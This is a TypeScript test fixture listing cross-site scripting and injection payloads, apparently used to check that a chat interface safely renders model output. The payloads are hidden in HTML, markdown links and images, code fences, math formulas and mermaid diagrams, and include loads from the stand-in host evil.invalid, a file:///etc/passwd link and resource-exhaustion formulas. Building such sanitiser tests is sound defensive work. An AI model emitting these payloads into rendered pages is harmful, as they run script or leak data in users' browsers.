/**
 * What a model may be made to write, by kinds. Where one could do anything it would set `window.hacked`, open a dialog or
 * ask `evil.invalid` for something.
 */
const EVIL = 'https://evil.invalid';

const RAW_HTML = [
  '<script>window.hacked=1</script>',
  '<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>',
  '<scr<script>ipt>window.hacked=1</scr</script>ipt>',
  '<img src=x onerror=window.hacked=1>',
  '<img src="https://evil.invalid/a.png">',
  '<IMG """><SCRIPT>window.hacked=1</SCRIPT>">',
  '<img src=x:x onerror&#61;window.hacked=1>',
  '<svg onload=window.hacked=1>',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<svg><use href="https://evil.invalid/a.svg#x"/></svg>',
  '<svg><a xlink:href="javascript:window.hacked=1"><text x=20 y=20>x</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:window.hacked=1">x</maction></math>',
  '<iframe src="javascript:window.hacked=1"></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="data:text/html,<script>window.hacked=1</script>"></object>',
  '<embed src="https://evil.invalid/x.swf">',
  '<body onload=window.hacked=1>',
  '<details open ontoggle=window.hacked=1>x</details>',
  '<video><source onerror=window.hacked=1></video>',
  '<audio src=x onerror=window.hacked=1>',
  '<input autofocus onfocus=window.hacked=1>',
  '<form action="https://evil.invalid"><button>Send</button></form>',
  '<button formaction="javascript:window.hacked=1">x</button>',
  '<style>@import "https://evil.invalid/x.css"; body{display:none}</style>',
  '<div style="background:url(https://evil.invalid/a.png)">x</div>',
  '<link rel=stylesheet href=https://evil.invalid/x.css>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<template><script>window.hacked=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<!--><img src=x onerror=window.hacked=1>-->',
  '<![CDATA[<img src=x onerror=window.hacked=1>]]>',
  '<?xml version="1.0"?><img src=x onerror=window.hacked=1>',
  '<a href="javascript:window.hacked=1" onclick=window.hacked=1>x</a>',
  '<p>text</p><table background="https://evil.invalid/t.png"><tr><td>x</td></tr></table>',
  '<textarea></textarea><img src=x onerror=window.hacked=1>',
  '<title></title><img src=x onerror=window.hacked=1>',
];

const LINKS = [
  '[x](javascript:window.hacked=1)',
  '[x](JaVaScRiPt:window.hacked=1)',
  '[x](java\tscript:window.hacked=1)',
  '[x](  javascript:window.hacked=1)',
  '[x](&#106;avascript:window.hacked=1)',
  '[x](javascript&colon;window.hacked=1)',
  '[x](javascript&#x3A;window.hacked=1)',
  '[x](\\javascript:window.hacked=1)',
  '[x](<javascript:window.hacked=1>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.invalid/1)',
  '[x](https://example.com/"onmouseover="window.hacked=1)',
  '[x](https://example.com "title\\" onmouseover=\\"window.hacked=1")',
  `[x]('javascript:window.hacked=1')`,
  '<javascript:window.hacked=1>',
  '[a]: javascript:window.hacked=1\n\n[a]',
  '[b]: <data:text/html,x> "t"\n\n[click me][b]',
  '[![x](javascript:window.hacked=1)](javascript:window.hacked=1)',
  '[<img src=x onerror=window.hacked=1>](https://example.com)',
  '[x](https://example.com\u0001javascript:window.hacked=1)',
  '[x](https://user:javascript@example.com/<script>)',
];

const IMAGES = [
  `![x](${EVIL}/a.png)`,
  `![x](${EVIL}/a.png "t" onerror=window.hacked=1)`,
  '![x](//evil.invalid/a.png)',
  '![" onerror="window.hacked=1](https://example.com/a.png)',
  '![x](javascript:window.hacked=1)',
  '![x](data:image/svg+xml,<svg onload=window.hacked=1>)',
  `![x][i]\n\n[i]: ${EVIL}/i.png`,
  `![<script>window.hacked=1</script>](${EVIL}/b.png)`,
  `[![badge](${EVIL}/badge.svg)](https://example.com)`,
];

const CODE = [
  '```<img/src=x/onerror=window.hacked=1>\nx\n```',
  '```js" onmouseover="window.hacked=1\nx\n```',
  '```html\n<script>window.hacked=1</script><img src=x onerror=window.hacked=1>\n```',
  '```../../../../etc/passwd\nx\n```',
  '```__proto__\nx\n```',
  '```constructor\nx\n```',
  '`<img src=x onerror=window.hacked=1>`',
  '    <script>window.hacked=1</script>',
];

const FORMULAS = [
  '$\\href{javascript:window.hacked=1}{x}$',
  '$\\url{javascript:window.hacked=1}$',
  `$\\includegraphics[height=1em]{${EVIL}/a.png}$`,
  '$\\htmlClass{evil}{x}$',
  '$\\htmlId{evil}{x}$',
  '$\\htmlStyle{background:url(https://evil.invalid/a.png)}{x}$',
  '$\\htmlData{copy=1}{x}$',
  '$\\text{<img src=x onerror=window.hacked=1>}$',
  '$$\\text{</annotation><script>window.hacked=1</script>}$$',
  '$\\color{red;background:url(https://evil.invalid/a.png)}{x}$',
  '$\\textcolor{url(https://evil.invalid)}{x}$',
  '$\\def\\a{\\a\\a}\\a$',
  '\\(\\unknown{<svg onload=window.hacked=1>}\\)',
  '$\\rule{100000em}{100000em}$',
  '$</span><img src=x onerror=window.hacked=1>$',
];

const diagram = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``;
const DIAGRAMS = [
  diagram('graph TD\nA-->B\nclick A href "javascript:window.hacked=1"'),
  diagram('graph TD\nA-->B\nclick A call eval("window.hacked=1")'),
  diagram(
    '%%{init: {"securityLevel":"loose","htmlLabels":true}}%%\ngraph TD\nA["<img src=x onerror=window.hacked=1>"]',
  ),
  diagram('%%{init: {"themeCSS":"*{background-image:url(https://evil.invalid/a.png)}"}}%%\ngraph TD\nA-->B'),
  diagram('---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA["<script>window.hacked=1</script>"]'),
  diagram('graph TD\nA["<img src=https://evil.invalid/a.png>"]-->B'),
  diagram(`graph TD\nA@{ img: "${EVIL}/a.png", label: "x" }`),
  diagram('graph TD\nA-->B\nstyle A fill:url(https://evil.invalid/a.svg#x)'),
  diagram(
    'graph TD\nA-->B\nclassDef c mask:url(https://evil.invalid/a.svg#x),cursor:url(https://evil.invalid/c.cur)\nclass A c',
  ),
  diagram('graph TD\nA-->B\nlinkStyle 0 stroke:red,background:url(//evil.invalid/a.png)'),
  diagram('graph TD\nA["`<svg onload=window.hacked=1>`"]'),
  diagram('graph TD\nA["#60;img src=x onerror=window.hacked=1#62;"]'),
  diagram(
    'sequenceDiagram\nparticipant A\nlink A: x @ javascript:window.hacked=1\nA->>B: <img src=x onerror=window.hacked=1>',
  ),
  diagram('classDiagram\nclass A\nlink A "javascript:window.hacked=1"'),
  diagram('gantt\nsection x\nA :a1, 2024-01-01, 1d\nclick a1 href "javascript:window.hacked=1"'),
  diagram('graph TD\nA["$$\\\\href{javascript:window.hacked=1}{x}$$"]'),
  diagram('mindmap\nroot((x))\n::icon(fa fa-book" onload="window.hacked=1)'),
  diagram('pie title <script>window.hacked=1</script>\n"a" : 1'),
  diagram('graph TD\nA --> B["</text><image href=https://evil.invalid/a.png />"]'),
  diagram('graph TD\nclassDef c fill:#f00;}</style><script>window.hacked=1</script>'),
];

const PIECES = [
  '[^<script>]: <script>window.hacked=1</script>\n\nx[^<script>]',
  '[^x"onclick=window.hacked=1]: [x](javascript:window.hacked=1)\n\nx[^x"onclick=window.hacked=1]',
  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:window.hacked=1) | ![x](https://evil.invalid/t.png) |',
  '- [ ] <input onfocus=window.hacked=1 autofocus>',
  '# <img src=x onerror=window.hacked=1>',
  '> <iframe src=javascript:window.hacked=1></iframe>',
  '\u202e<script>window.hacked=1</script>',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.hacked=1&#62;',
  '＜script＞window.hacked=1＜/script＞',
  '**<b onclick=window.hacked=1>x</b>**',
  '~~[x](javascript:window.hacked=1)~~<br onclick=window.hacked=1>',
];

/** Each is an answer of its own. */
export const HOSTILE_STRINGS = [
  ...RAW_HTML,
  ...LINKS,
  ...IMAGES,
  ...CODE,
  ...FORMULAS,
  ...DIAGRAMS,
  ...PIECES,
];
